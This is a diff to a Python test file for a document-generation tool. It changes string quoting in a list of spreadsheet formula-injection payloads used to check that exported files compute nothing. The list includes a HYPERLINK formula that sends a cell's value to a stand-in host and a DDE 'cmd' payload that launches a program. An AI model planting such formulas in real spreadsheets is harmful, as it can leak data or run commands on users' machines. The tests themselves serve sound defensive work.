@@ -35,7 +35,7 @@ from docgen.tables import write_table
 #: Payloads from OWASP's page and from the lookalike and whitespace variants a clerk's sheet may carry.
 HOSTILE = [
     "=1+1",
-    "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klik\")",
+    '=HYPERLINK("http://example.invalid/?x="&A1;"klik")',
     "=cmd|' /C calc'!A0",
     "+2+3",
     "-2+3",
@@ -185,7 +185,7 @@ def test_libreoffice_shows_request_text_as_typed_and_computes_nothing(tmp_path_f
 
 # -- every writer -------------------------------------------------------------------------------
 
-PAYLOAD = "=HYPERLINK(\"http://example.invalid\";\"buka\")"
+PAYLOAD = '=HYPERLINK("http://example.invalid";"buka")'
 
 
 def _assert_no_formula(paths: tuple[Path, Path] | list[Path], payload: str = PAYLOAD) -> None:
